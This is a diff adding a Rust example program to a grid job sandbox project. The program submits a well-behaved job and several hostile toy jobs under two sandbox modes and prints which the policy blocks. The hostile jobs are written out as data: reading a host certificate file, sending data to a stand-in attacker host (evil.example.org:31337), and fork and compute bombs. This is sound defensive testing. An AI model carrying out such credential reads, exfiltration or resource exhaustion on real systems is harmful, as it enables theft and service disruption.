@@ -1,0 +1,66 @@
+//! Untrusted applications in a trusted environment (§5.5, §7).
+//!
+//! Submits a well-behaved jarlet and a series of hostile ones (filesystem
+//! escape, network exfiltration, fork bomb, compute bomb) under the two
+//! sandbox modes the paper describes — in-process ("same JVM") and
+//! isolated ("separate JVM") — and prints what the policy blocked.
+//!
+//! ```text
+//! cargo run --example untrusted_jobs
+//! ```
+
+use infogram::exec::sandbox::ExecMode;
+use infogram::quickstart::{Sandbox, SandboxConfig};
+use std::time::Duration;
+
+const PROGRAMS: &[(&str, &str)] = &[
+    (
+        "wellbehaved",
+        "read /data/input.dat; compute 10; write /tmp/out result; print analysis ok",
+    ),
+    ("fs-escape", "read /etc/grid-security/hostcert.pem; print leaked"),
+    ("exfiltrate", "net evil.example.org:31337; print sent"),
+    ("fork-bomb", "spawn; spawn; spawn"),
+    ("compute-bomb", "compute 999999"),
+];
+
+fn run_under(mode: ExecMode, label: &str) {
+    println!("=== sandbox mode: {label} ===");
+    let sandbox = Sandbox::start_with(SandboxConfig {
+        sandbox_mode: mode,
+        ..Default::default()
+    });
+    sandbox.host.fs.write("/data/input.dat", "specimen");
+    let mut client = sandbox.connect_client();
+    for (name, program) in PROGRAMS {
+        let path = format!("/home/gregor/{name}.jar");
+        sandbox.host.fs.write(&path, *program);
+        let handle = client
+            .submit(&format!("(executable={path})"), false)
+            .expect("submit");
+        let (state, exit, output) = client
+            .wait_terminal(&handle, Duration::from_millis(5), Duration::from_secs(10))
+            .expect("job finishes");
+        let verdict = output
+            .lines()
+            .find(|l| l.starts_with("SECURITY VIOLATION"))
+            .unwrap_or("ok")
+            .to_string();
+        println!(
+            "  {name:<13} {state:<8} exit={:<4} {verdict}",
+            exit.map(|e| e.to_string()).unwrap_or_default()
+        );
+    }
+    println!();
+    sandbox.shutdown();
+}
+
+fn main() {
+    run_under(ExecMode::Isolated, "isolated (separate \"JVM\")");
+    run_under(ExecMode::InProcess, "in-process (same \"JVM\")");
+    println!(
+        "note: both modes *block* the operations; the difference is that an\n\
+         in-process violation contaminates the host service (see the E11\n\
+         benchmark for the overhead/containment trade-off)."
+    );
+}
